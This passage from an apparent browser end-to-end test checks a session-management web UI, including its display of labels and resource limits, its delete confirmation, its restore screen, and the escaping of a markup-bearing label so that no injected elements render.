    assert text_of(browser, f"{row} [data-test=labels]") == "task=ateam=red"
    assert text_of(browser, f"{row} [data-test=ttl]").startswith("expires in ")
    assert (text_of(browser, f"{row} [data-test=cpus]"), text_of(browser, f"{row} [data-test=disk]")) == (
        "0.5 CPU", "128 MiB")
    plain = f"tr[data-session='{other}']"
    assert (text_of(browser, f"{plain} [data-test=labels]"), text_of(browser, f"{plain} [data-test=ttl]")) == (
        "none", "none")
    browser.screenshot(ARTIFACTS / "15-sessions-facts.png")

    # A label holding markup is shown as text, in the list and on the session page.
    browser.evaluate(HOSTILE_LABEL.replace("MARKUP", json.dumps(MARKUP)))
    browser.wait_for(f"document.querySelector(\"{row} [data-test=labels]\").textContent.includes('note=')",
                     "the hostile label in the list")
    assert text_of(browser, f"{row} [data-label=note]") == f"note={MARKUP}"
    browser.evaluate(f"location.hash = '#/s/{sid}'")
    browser.wait_for("!!document.querySelector('[data-test=facts] [data-label=note]')", "the hostile label")
    assert text_of(browser, "[data-test=facts] [data-label=note]") == f"note={MARKUP}"
    assert browser.evaluate("[document.querySelectorAll('img, b').length, window.reployPwned]") == [0, None]

    # Delete on the session page asks first, then deletes and goes back to the list.
    click(browser, "[data-test=delete]")
    assert visible(browser, "[data-test=delete-confirmation]")
    browser.screenshot(ARTIFACTS / "16-delete-confirmation.png")
    assert api.raw("GET", f"/api/v1/sessions/{sid}")[0] == 200  # not before confirming
    click(browser, "[data-test=confirm-delete]")
    browser.wait_for("location.hash === '#/' && document.querySelectorAll('tr[data-session]').length === 1",
                     "the list without it")
    assert api.raw("GET", f"/api/v1/sessions/{sid}")[0] == 404
    assert [s["id"] for s in api.call("GET", "/sessions")["sessions"]] == [other]

    # The restore screen of a snapshotted session has the facts and Delete too.
    api.call("POST", f"/sessions/{other}/snapshot", {})
    browser.evaluate(f"location.hash = '#/s/{other}'")
    browser.wait_for("!!document.querySelector('[data-test=restore-screen]')", "the restore screen")
    assert text_of(browser, "[data-test=session-id]") == other
    browser.screenshot(ARTIFACTS / "17-restore-facts.png")
    click(browser, "[data-test=delete]")
    click(browser, "[data-test=confirm-delete]")
    browser.wait_for("location.hash === '#/' && !!document.querySelector('.empty')", "the empty list")
    assert api.raw("GET", f"/api/v1/sessions/{other}")[0] == 404
